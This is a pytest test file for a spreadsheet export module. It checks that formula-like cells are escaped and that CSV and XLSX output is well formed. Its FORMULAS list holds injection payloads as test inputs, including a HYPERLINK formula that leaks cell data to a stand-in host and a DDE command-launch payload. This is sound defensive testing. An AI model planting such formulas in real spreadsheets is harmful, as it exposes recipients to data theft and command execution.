import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from typing import Any
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from citizenvoice.reporting import spreadsheets
from citizenvoice.reporting.spreadsheets import Sheet, Value, csv_bytes, safe_cell, xlsx_bytes

FORMULAS = [
    "=1+1",
    "+1",
    "-2",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1",
    "\u00a0=1",  # no-break space
    "\u200b=1",  # zero-width space
    "\u202e=1",  # right-to-left override
    "\ufeff=1",  # byte-order mark
    "\x00=1",
    "＝1+1",  # full width
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",  # small forms
    "﹢1",
    " \u3000＝1",
]
HARMLESS = ["", "a=b", "5-3", "you@agency.example", "'=1", "(=1)", "¡=!", "—", "−5", "[email] = mine", "💡"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_spreadsheet_could_run_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-5, -0.5, 0, 1e-9, True, None, date(2024, 5, 1)])
def test_what_is_no_text_stays_what_it_is(value: Value) -> None:
    assert safe_cell(value) is value


@given(st.text(alphabet=st.sampled_from("=+-@＝＋\t\r\n \u00a0ab\"',;"), max_size=8))
def test_no_cell_of_a_csv_file_can_be_run(text: str) -> None:
    [_, row] = csv.reader(
        io.StringIO(b"".join(csv_bytes(Sheet("t", ["a", "b"], [[1, text]]))).decode(), newline="")
    )

    assert row[0] == "1"
    assert row[1] in {text, f"'{text}"}
    assert not row[1].strip().startswith(("=", "+", "-", "@", "＝", "＋"))


def test_a_csv_file_is_utf_8_with_a_mark_only_on_wish() -> None:
    def sheet() -> Sheet:
        return Sheet("t", ["día"], [["¿qué?"], [True], [None], [datetime(2024, 5, 1, tzinfo=UTC)]])

    plain = b"".join(csv_bytes(sheet()))

    assert plain == 'día\r\n¿qué?\r\n1\r\n""\r\n2024-05-01T00:00:00+00:00\r\n'.encode()
    assert b"".join(csv_bytes(sheet(), is_marked=True)) == b"\xef\xbb\xbf" + plain


def workbook(*sheets: Sheet) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_bytes(sheets))))


def rows(sheet: Any) -> list[list[object]]:
    return [[cell.value for cell in row] for row in sheet.rows]


def test_a_workbook_keeps_numbers_days_and_texts_apart() -> None:
    book = workbook(
        Sheet(
            "comments", ["n", "day", "text"], [[-3, date(2024, 5, 1), "-3"], [0.25, None, "a < b & ¿c?\n d"]]
        ),
        Sheet("what/it:means", ["a"], []),
    )

    assert book.sheetnames == ["comments", "what it means"]
    assert rows(book["comments"]) == [
        ["n", "day", "text"],
        [-3, datetime(2024, 5, 1), "'-3"],  # noqa: DTZ001 - a day has no zone
        [0.25, None, "a < b & ¿c?\n d"],
    ]
    assert book["comments"]["C2"].data_type == "s"
    assert rows(book["what it means"]) == [["a"]]


@given(st.text(max_size=30))
def test_a_workbook_survives_any_text(text: str) -> None:
    value = workbook(Sheet("t", ["a"], [["x" + text]]))["t"]["A2"].value

    assert str(value).startswith("x")


def test_a_long_table_goes_on_in_the_next_sheet(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "SHEET_ROWS", 3)
    book = workbook(Sheet("t", ["a"], [[n] for n in range(7)]))

    assert book.sheetnames == ["t", "t 2", "t 3"]
    assert [value for name in book.sheetnames for [value] in rows(book[name])[1:]] == list(range(7))
    assert all(rows(book[name])[0] == ["a"] for name in book.sheetnames)


def test_a_workbook_is_sent_while_its_rows_are_read() -> None:
    read = 0

    def endless() -> Iterator[list[Value]]:
        nonlocal read
        for number in range(200_000):
            read += 1
            yield [number, f"some words {number * 7919}"]

    pieces = xlsx_bytes([Sheet("t", ["a", "b"], endless())])
    next(pieces)

    assert 0 < read < 100_000
    assert zipfile.is_zipfile(io.BytesIO(b"".join(xlsx_bytes([Sheet("t", ["a"], [])]))))


def test_every_part_of_a_workbook_is_well_formed_declared_and_referred_to() -> None:
    hostile = "<&>\"' \x00\x0b\ud800 ]]> \ufffe 💡"
    sheets = [Sheet("a&b<c>", ("x<y",), [(hostile,), (date(2026, 5, 1),)]), Sheet("second", ("n",), [(1.5,)])]
    book = zipfile.ZipFile(io.BytesIO(b"".join(xlsx_bytes(sheets))))
    parts = {name: ET.fromstring(book.read(name)) for name in book.namelist()}  # noqa: S314 — our own
    declared = parts["[Content_Types].xml"]
    types = {one.get("PartName"): str(one.get("ContentType")) for one in declared if one.get("PartName")}
    targets = {one.get("Target") for one in parts["xl/_rels/workbook.xml.rels"]}

    assert book.testzip() is None
    assert set(types) == {f"/{name}" for name in parts if name.startswith("xl/") and "_rels" not in name}
    assert {kind.rpartition(".")[2] for kind in types.values()} == {"main+xml", "styles+xml", "worksheet+xml"}
    assert targets == {"styles.xml", "worksheets/sheet1.xml", "worksheets/sheet2.xml"}
